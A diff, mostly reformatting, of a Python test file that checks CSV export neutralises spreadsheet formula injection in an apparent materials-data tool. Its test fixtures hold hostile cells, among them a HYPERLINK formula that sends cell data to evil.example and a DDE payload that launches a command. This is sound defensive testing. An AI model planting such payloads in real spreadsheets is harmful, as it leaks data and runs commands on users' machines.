@@ -21,19 +21,40 @@ from tests.test_cli import state
 HOSTILE_CSV = (
     "Material,Class,Description,Notes,Property,Value,Unit,Source\n"
     '"=HYPERLINK(""http://evil.example/?leak=""&A2,""click"")",polymer,"+cmd|\' /C calc\'!A0",'
-    '@SUM(1+1),Young\'s modulus,2,GPa,=1+1 handbook\n'
+    "@SUM(1+1),Young's modulus,2,GPa,=1+1 handbook\n"
     'Minus polymer,polymer,-2+3 something,"=cmd",zeta potential,-65,mV,-source\n'
-    'Range polymer,polymer,plain,,glass transition temperature,(−65)–(−60),°C,Handbook\n'
+    "Range polymer,polymer,plain,,glass transition temperature,(−65)–(−60),°C,Handbook\n"
 )
-HOSTILE_CELLS = ('=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)",
-                 "-2+3 something", "=cmd", "=1+1 handbook", "-source")
+HOSTILE_CELLS = (
+    '=HYPERLINK("http://evil.example/?leak="&A2,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "-2+3 something",
+    "=cmd",
+    "=1+1 handbook",
+    "-source",
+)
 
 
-@pytest.mark.parametrize(("text", "safe"), [
-    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
-    ("\r=1", "'\r=1"), ("-65", "-65"), ("+5", "+5"), ("-1.5e3", "-1.5e3"), ("-65–-60", "'-65–-60"),
-    ("PLLA", "PLLA"), ("", ""), ("'quoted", "'quoted"), ("-", "'-"),
-])
+@pytest.mark.parametrize(
+    ("text", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+cmd", "'+cmd"),
+        ("-cmd", "'-cmd"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("-65", "-65"),
+        ("+5", "+5"),
+        ("-1.5e3", "-1.5e3"),
+        ("-65–-60", "'-65–-60"),
+        ("PLLA", "PLLA"),
+        ("", ""),
+        ("'quoted", "'quoted"),
+        ("-", "'-"),
+    ],
+)
 def test_neutralise_quotes_formulas_and_leaves_numbers(text, safe):
     assert neutralise(text) == safe
     assert restore(neutralise(text)) == text
@@ -44,8 +65,7 @@ def _cells(rows: list[dict[str, str]]) -> list[str]:
 
 
 def _assert_safe(rows: list[dict[str, str]]) -> None:
-    dangerous = [cell for cell in _cells(rows) if cell and cell[0] in FORMULA_TRIGGERS
-                 and neutralise(cell) != cell]
+    dangerous = [cell for cell in _cells(rows) if cell and cell[0] in FORMULA_TRIGGERS and neutralise(cell) != cell]
     assert dangerous == []
     quoted = {cell for cell in _cells(rows) if cell.startswith("'")}
     assert {restore(cell) for cell in quoted} >= set(HOSTILE_CELLS)
@@ -75,7 +95,6 @@ def test_cli_export_quotes_formulas_and_reads_back(tmp_path, monkeypatch):
     assert hyperlink["name"] == HOSTILE_CELLS[0] and hyperlink["description"] == HOSTILE_CELLS[1]
 
 
-
 @pytest.mark.anyio
 async def test_api_export_and_data_package_quote_formulas(engine, api, tmp_path):
     path = tmp_path / "hostile.csv"
@@ -91,4 +110,3 @@ async def test_api_export_and_data_package_quote_formulas(engine, api, tmp_path)
     with zipfile.ZipFile(io.BytesIO(package.content)) as bundle:
         data = bundle.read("data.csv").decode("utf-8")
     _assert_safe(list(csv.DictReader(io.StringIO(data))))
-
